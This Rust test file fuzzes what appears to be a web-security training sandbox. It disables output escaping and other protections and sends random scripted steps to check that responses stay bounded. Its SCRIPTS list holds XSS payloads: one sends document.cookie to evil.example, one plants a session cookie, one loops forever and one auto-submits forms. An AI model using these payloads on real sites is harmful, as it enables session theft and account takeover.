//! Blocks drawn at random from everything a block can say, some of them broken off: whatever comes, it is answered in
//! words, and what is stored stays within its limits. The seed is fixed; another is taken from the environment.

use http::StatusCode;
use rand::{RngExt, SeedableRng, rngs::StdRng};
use serde_json::json;

use super::press;
use crate::harness::TestApp;

const BLOCKS: usize = 120;

fn one<'a>(rng: &mut StdRng, of: &[&'a str]) -> &'a str {
    of[rng.random_range(0..of.len())]
}

fn line(rng: &mut StdRng) -> String {
    let path =
        one(rng, &["", "count", "book", "login", "account", "whoami", "token", "nowhere", "{{x}}", "coats/pass?peg=1"]);
    let host = one(
        rng,
        &["hotel.grand.example", "shop.grand.example", "evil.example", "nobody.example", "a.hotel.grand.example"],
    );
    let name = one(rng, &["x", "y", "planted", "alice.password"]);
    match rng.random_range(0..12) {
        0 => format!("make x = base64url {}", "{{x}}".repeat(rng.random_range(1..60))),
        1 => format!("make {} = hs256 key {{{{{name}}}}}", one(rng, &["x", "y", "z"])),
        2 => format!("guess y = hs256 {{{{{name}}}}} among a, b, c"),
        3 => format!("every {}s for {}s open https://{host}/{path}", rng.random_range(1..3), rng.random_range(3..90)),
        4 => format!("wait {}d", rng.random_range(0..1001)),
        5 => "back".to_owned(),
        6 => "restart hotel".to_owned(),
        7 => format!("submit \"write\" text=\"{}\"", one(rng, SCRIPTS)),
        8 => format!("submit \"log in\" guest=alice password={{{{{name}}}}}"),
        9 => format!("click \"{}\"", one(rng, &["Guest book", "Log in", "Write", "{{x}}"])),
        10 => format!("finish {name}"),
        _ => format!("open https://{host}/{path}"),
    }
}

const SCRIPTS: &[&str] = &[
    "<script>location='/book'</script>",
    "<script>fetch('/count');fetch('/book')</script>",
    "<script>document.cookie='sid=planted; Domain=grand.example'</script>",
    "<script>new Image().src='https://evil.example/?'+document.cookie</script>",
    "<script>while(true){}</script>",
    "<script>document.forms[0].submit()</script>",
    "{{x}}{{x}}{{x}}{{x}}",
];

#[tokio::test]
async fn whatever_is_pressed_is_answered_in_words_and_nothing_grows() {
    let seed = std::env::var("CLOAKROOM_HOSTILE_SEED").ok().and_then(|seed| seed.parse().ok()).unwrap_or(14);
    let (app, mut rng) = (TestApp::start(), StdRng::seed_from_u64(seed));
    for (switch, value) in
        [("escape_output", json!(false)), ("strict_ids", json!(false)), ("cookie_only", json!(false))]
    {
        app.switch(switch, value).await;
    }
    for block in 0..BLOCKS {
        let who = one(&mut rng, &["alice", "mallory"]);
        let steps = (0..rng.random_range(1..8)).map(|_| line(&mut rng)).collect::<Vec<_>>().join("\n");
        if rng.random_bool(0.2) {
            let deadline = std::time::Duration::from_micros(rng.random_range(0..3000));
            let _ = tokio::time::timeout(deadline, press(&app, who, &steps)).await;
            continue;
        }
        let answer = press(&app, who, &steps).await;
        let fits = answer.status == StatusCode::OK || answer.status.is_client_error();
        assert!(fits && answer.body.len() < 1_000_000, "seed {seed}, block {block}: {}\n{steps}", answer.status);
    }
    let journal = app.get("/api/sandbox/exchanges").await;
    assert!(journal.json()["exchanges"].as_array().unwrap().len() <= 100 && journal.body.len() < 2_000_000);
    let page = app.get("/inspector").await;
    assert!(page.status == StatusCode::OK && page.body.len() < 600_000, "{} bytes", page.body.len());
    assert_eq!(press(&app, "alice", "open https://hotel.grand.example/").await.json()["problem"], json!(null));
}
